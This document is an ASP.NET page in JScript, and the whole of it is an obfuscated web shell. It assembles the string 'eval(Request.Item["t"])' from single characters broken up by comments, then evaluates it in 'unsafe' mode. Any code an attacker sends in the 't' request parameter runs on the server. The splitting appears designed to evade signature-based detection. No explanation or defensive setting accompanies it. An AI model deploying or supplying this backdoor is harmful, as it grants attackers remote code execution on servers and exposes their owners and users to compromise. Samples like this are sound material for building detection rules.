<%@ Page Language="JScript" %>
<%var code/*x*/ = "e"+"v"/*x*/+"a"+"l"+"("+"R"+/*x*/"e"+"q"+"u"+"e"+"s"+"t"+".Item[\"t\"]"+")";
eval(code, "unsafe");%>
